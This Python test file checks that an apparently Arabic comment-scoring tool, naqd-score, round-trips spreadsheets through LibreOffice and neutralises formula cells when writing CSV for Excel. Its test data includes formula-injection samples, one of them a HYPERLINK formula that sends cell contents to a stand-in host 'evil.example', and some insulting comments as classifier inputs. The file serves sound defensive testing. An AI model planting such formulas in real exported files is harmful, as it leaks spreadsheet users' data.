#!/usr/bin/env python3
"""Spreadsheets that LibreOffice writes are read, and what naqd writes for Excel is opened by LibreOffice.

    tests/spreadsheets.py        programs in NAQD_BIN (target/release)

Needs LibreOffice Calc (Debian: libreoffice-calc). A sheet with comments in Arabic becomes a workbook of both kinds and
CSV in three encodings; naqd-score finds the same comments and the same decisions in all of them. In the other direction,
no cell of a file written with --excel is a formula, and every comment is what it was.
"""

import csv
import json
import os
import pathlib
import shutil
import subprocess
import sys
import tempfile
import xml.etree.ElementTree as xml

BIN = pathlib.Path(os.environ.get("NAQD_BIN", pathlib.Path(__file__).resolve().parent.parent / "target/release")).resolve()

# Comments of our own: Arabic with marks and tatweel, both scripts, quotes, delimiters, line breaks, would-be formulas.
COMMENTS = [
    "شكرًا على هذا التقرير المفيد",
    "أيـــن المصدر؟ الخبر غير دقيق، والأرقام خاطئة",
    "كاتب هذا المقال غبي وحمار",
    "قال: \"لا\"؛ ثم سكت",
    "سطر أول\nسطر ثانٍ; وفاصلة, ونقطة",
    "Where is your source? أين المصدر",
    "you stupid fool, you pathetic disgusting pig",
]
FORMULAS = [
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
    "=1+1",
    "-1+2",
    "+44 20 1234",
    "@SUM(1+1)",
    "\t=1+1",
    "'=1+1",
    "''=1+1",
    "'tis fine",
    "نعم; =1+1",
]
# Numbers of encodings in LibreOffice's filter of text.
UTF_8, UTF_16, WINDOWS_1256 = 76, 65535, 38

failures = []


def check(what, found, expected):
    if found != expected:
        failures.append(what)
        print(f"FAILED: {what}\n  expected {expected!r}\n  found    {found!r}")
    else:
        print(f"ok: {what}")


def libreoffice(folder, source, to, name, *options):
    """Converts a file with a profile of its own."""
    outdir = folder / "converted"
    outdir.mkdir(exist_ok=True)
    profile = f"-env:UserInstallation=file://{folder}/profile"
    command = ["soffice", profile, "--headless", *options, "--convert-to", to, "--outdir", outdir, source]
    subprocess.run(command, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=300)
    written = outdir / f"{source.stem}.{to.split(':')[0]}"
    target = folder / name
    written.replace(target)
    return target


def text_filter(delimiter, encoding):
    return f"Text - txt - csv (StarCalc):{ord(delimiter)},34,{encoding},1"


def score(*args):
    ran = subprocess.run([BIN / "naqd-score", *args], capture_output=True)
    if ran.returncode not in (0, 1):
        sys.exit(f"naqd-score {args}: {ran.stderr.decode(errors='replace')}")
    return ran.stdout


def decided(*args):
    """Comments of a file with their decisions, as naqd-score reads them."""
    rows = [json.loads(line) for line in score("--to", "jsonl", *args).decode().splitlines()]
    return [(row["comment"], row["naqd"]["decision"]) for row in rows]


def cells(fods):
    """Texts of the cells of the first sheet by rows, and the formulas among them."""
    office = "{urn:oasis:names:tc:opendocument:xmlns:"
    table, text = office + "table:1.0}", office + "text:1.0}"
    rows, formulas = [], []
    for row in next(xml.parse(fods).iter(table + "table")).iter(table + "table-row"):
        found = []
        for cell in row.iter(table + "table-cell"):
            if formula := cell.get(table + "formula"):
                formulas.append(formula)
            lines = []
            for paragraph in cell.iter(text + "p"):
                # Tabs and runs of spaces are elements.
                line = paragraph.text or ""
                for part in paragraph:
                    line += "\t" if part.tag == text + "tab" else " " * int(part.get(text + "c", 1))
                    line += part.tail or ""
                lines.append(line)
            found += ["\n".join(lines)] * min(int(cell.get(table + "number-columns-repeated", 1)), 50)
        if any(found):
            rows.append(found)
    return rows, formulas


def read_what_libreoffice_writes(folder):
    source = folder / "sheet.csv"
    with source.open("w", encoding="utf-8-sig", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["id", "comment", "when"])
        writer.writerows([i, comment, "2026-01-02"] for i, comment in enumerate(COMMENTS))
    expected = decided(source)
    check("the sheet itself", [comment for comment, _ in expected], COMMENTS)
    infilter = "--infilter=" + text_filter(",", UTF_8)
    ods = libreoffice(folder, source, "ods", "book.ods", infilter)
    xlsx = libreoffice(folder, ods, "xlsx", "book.xlsx")
    for name, delimiter, encoding, options in [
        ("utf-8.csv", ",", UTF_8, []),
        ("utf-16.csv", "\t", UTF_16, []),
        # It has no mark in this encoding, so that it is named.
        ("windows-1256.csv", ";", WINDOWS_1256, ["--encoding", "windows-1256"]),
    ]:
        to = f"csv:{text_filter(delimiter, encoding)}"
        file = libreoffice(folder, ods, to, name)
        check(f"LibreOffice writes {name}, naqd reads it", decided(*options, file), expected)
    if "--sheet" not in subprocess.run([BIN / "naqd-score", "--help"], capture_output=True, text=True).stdout:
        print("skipped: workbooks, which this naqd-score does not read")
        return
    for book in [ods, xlsx]:
        check(f"LibreOffice writes {book.name}, naqd reads it", decided(book), expected)


def open_what_naqd_writes(folder):
    comments = COMMENTS + FORMULAS
    source = folder / "inbox.csv"
    with source.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["id", "comment"])
        writer.writerows(enumerate(comments))
    # Without a guard the cells are formulas there: else nothing would be tested.
    infilter = "--infilter=" + text_filter(",", UTF_8)
    _, formulas = cells(libreoffice(folder, source, "fods", "live.fods", infilter))
    check("without --excel LibreOffice finds formulas", len(formulas), 2)
    formula = ("=", "+", "-", "@", "\t")
    guarded = ["'" + it if it.lstrip("'").startswith(formula) else it for it in comments]
    for option, delimiter in [("--excel", ","), ("--excel=semicolon", ";")]:
        file = folder / "scored.csv"
        file.write_bytes(score(option, source))
        fods = libreoffice(folder, file, "fods", "scored.fods", "--infilter=" + text_filter(delimiter, UTF_8))
        rows, formulas = cells(fods)
        check(f"{option}: no formulas", formulas, [])
        check(f"{option}: header", rows[0][:3], ["id", "comment", "naqd_label"])
        check(f"{option}: comments, Arabic intact", [row[1] for row in rows[1:]], guarded)
        # What the spreadsheet saves, naqd reads as the comments that were there, mark and all.
        saved = libreoffice(folder, fods, f"csv:{text_filter(';', UTF_16)}", "saved.csv")
        with saved.open(encoding="utf-16", newline="") as text:
            own = [row[:2] for row in csv.reader(text, delimiter=";")]
        with (folder / "again.csv").open("w", encoding="utf-8-sig", newline="") as text:
            csv.writer(text, delimiter=";").writerows(own)
        again = [comment for comment, _ in decided(folder / "again.csv")]
        # LibreOffice saves no tab in a cell.
        check(f"{option}: saved by LibreOffice and read again", again, [comment.replace("\t", "") for comment in comments])


def main():
    if not shutil.which("soffice"):
        sys.exit("soffice: not found (Debian: apt-get install libreoffice-calc)")
    with tempfile.TemporaryDirectory() as folder:
        folder = pathlib.Path(folder).resolve()
        read_what_libreoffice_writes(folder)
        open_what_naqd_writes(folder)
    sys.exit(f"{len(failures)} failed" if failures else 0)


if __name__ == "__main__":
    main()
